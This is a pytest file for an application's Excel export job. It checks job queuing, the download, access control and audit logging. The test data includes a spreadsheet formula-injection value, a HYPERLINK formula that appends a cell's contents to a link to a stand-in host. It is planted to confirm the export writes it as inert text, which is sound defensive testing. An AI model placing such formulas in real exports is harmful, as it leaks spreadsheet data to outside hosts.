"""A large export as a job: the flags page's 导出Excel starts a job and answers at once; the job
writes the workbook (text stays text), the job page offers it for download, and the export is
audited with its filter and row count."""

from __future__ import annotations

import io
import re

from openpyxl import load_workbook
from sqlalchemy import select

from yikatong.core.clock import FixedClock
from yikatong.core.db import new_session
from yikatong.interception.jobs import FLAGS_EXPORT
from yikatong.jobs.models import Job
from yikatong.jobs.runner import Runner
from yikatong.security.models import AuditEvent
from yikatong.workflow.models import Application

from .conftest import NOW


def test_the_flags_export_is_a_job_whose_result_is_a_file(web, auth, rule, only_my_rules):
    with new_session() as s:
        numbers = s.scalars(select(Application.number).where(Application.status == "办理中")
                            .order_by(Application.id).limit(2)).all()
    listed = ", ".join(f"'{n}'" for n in numbers)
    code = rule(f"SELECT a.application_id, '=HYPERLINK(\"http://x/?\"&A2,\"详情\")' AS evidence "
                f"FROM applications a WHERE a.number IN ({listed})", active=True)
    finance = auth("city_finance")
    run = web.post("/rules/run", headers=finance, follow_redirects=False)
    Runner(FixedClock(NOW)).run_once()
    assert web.get(run.headers["location"], headers=finance).text.count('data-testid="job-done"') == 1

    admin = auth("supervisor")  # supervisors read every flag of the city
    page = web.get(f"/flags?status=all&rule={code}", headers=admin)
    assert 'action="/flags/export"' in page.text
    r = web.post("/flags/export", data={"status": "all", "rule": code}, headers=admin, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/jobs/")
    job_id = int(r.headers["location"].rsplit("/", 1)[1])
    with new_session() as s:
        assert (s.get(Job, job_id).kind, s.get(Job, job_id).status) == (FLAGS_EXPORT, "排队中")
    assert web.get(f"/jobs/{job_id}/download", headers=admin).status_code == 404  # not written yet

    Runner(FixedClock(NOW)).run_once()
    job_page = web.get(f"/jobs/{job_id}", headers=admin)
    assert 'data-testid="job-download"' in job_page.text
    download = web.get(f"/jobs/{job_id}/download", headers=admin)
    assert download.status_code == 200
    assert re.search(r"filename\*=UTF-8''.*\.xlsx", download.headers["content-disposition"])
    sheet = load_workbook(io.BytesIO(download.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("编号", "申请编号", "姓名") and len(rows) == 3
    assert sorted(r[1] for r in rows[1:]) == sorted(numbers)
    for cell in [row[8] for row in sheet.iter_rows(min_row=2)]:
        assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")  # text, not a formula
    assert web.get(f"/jobs/{job_id}/download", headers=finance).status_code == 403  # not theirs
    with new_session() as s:
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == "flag.export")
                          .order_by(AuditEvent.id.desc())).first()
        assert event is not None and '"rows": 2' in event.detail and code in event.detail


def test_a_malformed_region_is_refused_before_a_job_is_started(web, auth):
    r = web.post("/flags/export", data={"region": "ABC"}, headers=auth("supervisor"), follow_redirects=False)
    assert r.status_code == 422
